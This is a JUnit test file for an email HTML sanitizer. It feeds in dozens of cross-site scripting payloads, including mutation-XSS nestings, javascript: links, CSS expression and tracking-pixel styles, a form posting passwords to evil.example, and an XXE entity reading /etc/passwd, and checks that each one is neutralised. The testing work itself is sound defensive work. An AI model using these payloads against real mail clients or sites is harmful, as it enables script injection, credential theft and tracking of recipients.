package dev.mailsync.body;

import java.time.Duration;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

class SafeHtmlTest {

    private static final Set<String> ELEMENTS = Set.of(
            ("a b big blockquote br caption center code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i ins li"
                            + " ol p pre s small span strike strong sub sup table tbody td tfoot th thead tr tt u ul")
                    .split(" "));

    private static final Set<String> ATTRIBUTES = Set.of(
            ("align bgcolor border cellpadding cellspacing color colspan dir href rel rowspan style valign width")
                    .split(" "));

    @ParameterizedTest
    @ValueSource(
            strings = {
                // Scripts
                "<script>alert(1)</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<SCRIPT/SRC=https://evil.example/x.js></SCRIPT>",
                "<b onmouseover=alert(1) ONCLICK='alert(2)' onfocus=\"alert(3)\" autofocus tabindex=1>x</b>",
                "<div/onclick=alert(1)>x</div>",
                "<details open ontoggle=alert(1)>x</details>",
                "<body onload=alert(1) background='https://evil.example/x'>x</body>",
                // Links
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='jav&#x09;ascript:alert(1)'>x</a>",
                "<a href=' &#1; javascript:alert(1)'>x</a>",
                "<a href='JaVaScRiPt:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='blob:https://evil.example/1'>x</a>",
                "<a href='//evil.example'>x</a>",
                "<a href='/v1/mail-sync/disable'>x</a>",
                "<a href='https://x.example/\"onclick=alert(1)'>x</a>",
                "<a href='https://x.example' target='_top' ping='https://evil.example' download>x</a>",
                "<a name='location' id='cookie' class='modal'>x</a>",
                "<base href='https://evil.example/'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
                // What loads
                "<img src='https://tracker.example/x.gif' srcset='https://tracker.example/y.gif 2x'>",
                "<img src=x onerror=alert(1)>",
                "<img src='cid:1'><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
                "<picture><source srcset='https://tracker.example/x'><img></picture>",
                "<video src='https://tracker.example/x' poster='https://tracker.example/y'></video>",
                "<audio src='https://tracker.example/x' autoplay></audio>",
                "<table background='https://tracker.example/x'><tr background='x'><td background='y'>x</td></tr></table>",
                "<input type=image src='https://tracker.example/x'>",
                "<bgsound src='https://tracker.example/x'>",
                "<object data='https://evil.example'><param name=movie value=x></object>",
                "<embed src='https://evil.example'>",
                "<applet code=x></applet>",
                // What encloses
                "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<frameset><frame src='https://evil.example'></frameset>",
                "<form action='https://evil.example'><input name=password><button formaction='x'>x</button></form>",
                "<textarea>x</textarea><select><option>x</option></select><isindex action='x'>",
                // Styles
                "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
                "<div style='background:url(https://tracker.example/x)'>x</div>",
                "<div style='background-image:u\\72l(https://tracker.example/x)'>x</div>",
                "<div style=\"list-style-image:url('https://tracker.example/x')\">x</div>",
                "<div style='content:url(https://tracker.example/x);cursor:url(https://tracker.example/x)'>x</div>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<div style='width:ex/**/pression(alert(1))'>x</div>",
                "<div style='behavior:url(#default#time2);-moz-binding:url(x)'>x</div>",
                "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999'>x</div>",
                "<div style='pos\\69tion:absolute'>x</div>",
                "<div style='margin-top:-5000px;margin:-1em'>x</div>",
                "<div style='margin-left:9999px;padding:500em;font-size:9999px;border:3000px solid red'>x</div>",
                "<div style='margin:1e9px;margin-top:calc(100vh);padding:+9999px;font-size:99vw'>x</div>",
                "<div style='width:9000px;height:9000px;min-width:9000px'>x</div>",
                "<div style='text-indent:-9999px;letter-spacing:-99px;float:left;display:none'>x</div>",
                "<div style='box-shadow:0 0 0 9999px red;outline:9999px solid red;transform:scale(99)'>x</div>",
                "<div style='color:red!important;opacity:0;visibility:hidden;clip:rect(0,0,0,0)'>x</div>",
                "<div style='color:red;\"><script>alert(1)</script>'>x</div>",
                "<table width=99999 height=99999 cellpadding=99999><tr><td width='5000%' colspan=9999>x</td></tr></table>",
                // Other languages inside HTML, and nestings that browsers read in another way than they were written
                "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
                "<svg><animate attributeName=href values=javascript:alert(1) /><use href='data:x'/></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
                "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
                "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
                "<template><img src=x onerror=alert(1)></template><slot>x</slot>",
                "<plaintext><img src=x onerror=alert(1)>",
                "<select><style></select><img src=x onerror=alert(1)></style>",
                "<!--><img src=x onerror=alert(1)>--><!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
                "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><?xml-stylesheet href='x'?><p>&y;</p>",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
                "<img src=\"`><script>alert(1)</script>\"/><a href=`javascript:alert(1)`>x</a>",
                "<<img src=x onerror=alert(1)//<</p <img src=x onerror=alert(1)",
                "<p\u0000 onclick=alert(1)>x</p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<x-evil onclick=alert(1) is=x>x</x-evil><o:p>x</o:p><dialog open>x</dialog><marquee>x</marquee>"
            })
    void whateverIsSentOnlyHarmlessThingsAreLeft(String attack) {
        var safe = SafeHtml.of(attack);

        // Twice through a parser of browsers' rules: a nesting that reads differently the second time would show here.
        var once = Jsoup.parseBodyFragment(safe).body();
        var twice = Jsoup.parseBodyFragment(once.html()).body();
        Stream.of(once, twice)
                .flatMap(body -> body.children().stream())
                .flatMap(child -> child.stream())
                .forEach(element -> assertHarmless(element, safe));
    }

    private static void assertHarmless(Element element, String safe) {
        assertThat(ELEMENTS).as(safe).contains(element.tagName());
        for (var attribute : element.attributes()) {
            assertThat(ATTRIBUTES).as(safe).contains(attribute.getKey());
            assertHarmless(attribute, safe);
        }
        if (element.hasAttr("href")) {
            assertThat(element.attr("rel").split(" ")).contains("noopener", "noreferrer", "nofollow");
        }
    }

    private static void assertHarmless(Attribute attribute, String safe) {
        var value = attribute.getValue().toLowerCase(Locale.ROOT);
        switch (attribute.getKey()) {
            case "href" -> assertThat(value).as(safe).matches("(https?://|mailto:|tel:)[^\\s<>]*");
            case "style" ->
                assertThat(value)
                        .as(safe)
                        .doesNotContain("url", "-", "9999", "500", "3000", "expression", "position", "important", "\\")
                        .doesNotContain("width", "height", "index", "indent", "shadow", "display", "opacity", "clip");
            case "width", "cellpadding", "colspan" -> assertThat(value).as(safe).hasSizeLessThanOrEqualTo(4);
            default -> {}
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    margin:0cm 0cm 8pt; font-family:Calibri,sans-serif | margin:0cm 0cm 8pt
                    color:#1F497D; background:yellow                   | color:#1f497d;background-color:yellow
                    color:rgb(31, 73, 125); font-weight:700            | font-weight:700
                    border:none; border-top:solid #E1E1E1 1.0pt; padding:3.0pt 0 0 0 | border-top:solid #e1e1e1 1pt
                    font-size:11.0pt !important                        | font-size:11pt
                    margin:-1px; color:blue                            | color:blue
                    font:italic 12px/30px Georgia, serif               | italic 12px
                    """)
    void whatOrdinaryMailLooksLikeStays(String style, String expected) {
        assertThat(SafeHtml.of("<p style=\"" + style + "\">x</p>"))
                .startsWith("<p style=\"")
                .contains(expected);
    }

    @Test
    void linksToOtherPlacesStayAndSayNothingOfTheCrm() {
        assertThat(SafeHtml.of("<a href='https://x.example/?a=1&amp;b=2'>x</a>"))
                .contains("href=\"https://x.example/?a&#61;1&amp;b&#61;2\"")
                .contains("rel=\"noopener noreferrer nofollow\"");
        assertThat(SafeHtml.of("<a href='mailto:lee@lead.example'>x</a>")).contains("mailto:lee");
        assertThat(SafeHtml.of("<a href='tel:+49301234'>x</a>")).contains("tel:");
    }

    @Test
    void howeverDeepAThreadIsQuotedItsTextStays() {
        var depth = 900;
        var html =
                "<blockquote>".repeat(depth) + "the first mail<br>" + "</blockquote>".repeat(depth) + "<p>the last</p>";

        var safe = SafeHtml.of(html);

        assertThat(safe).contains("the first mail", "<p>the last</p>");
        assertThat(safe.split("<blockquote>", -1)).hasSize(201);
        assertThat(PlainText.of(html)).isEqualTo("the first mail\nthe last");
    }

    @Test
    void hostileNestingEndsInTime() {
        hostileNestingEndsInTime(50_000);
    }

    @Test
    @Tag("thorough")
    void hostileNestingOfAMegabyteEndsInTime() {
        hostileNestingEndsInTime(200_000);
    }

    private static void hostileNestingEndsInTime(int depth) {
        for (var piece :
                new String[] {"<div>", "<a href=x>", "<b><p>", "</a>", "<table><tr><td>", "<", "<!--", "&#", "<p x=\""
                }) {
            assertTimeoutPreemptively(Duration.ofSeconds(30), () -> {
                SafeHtml.of(piece.repeat(depth));
                PlainText.of(piece.repeat(depth));
            });
        }
    }

    @Test
    void hostileSheetsEndInTime() {
        for (var piece : new String[] {"@media{", "a{}", "a{/*", "{", ";", "a,"}) {
            SafeHtml.of("<style>" + piece.repeat(100_000) + "</style><p>x</p>");
        }
        assertThat(PlainText.of("<p style='" + "/*".repeat(200_000) + "'>x</p>"))
                .isEqualTo("x");
    }
}
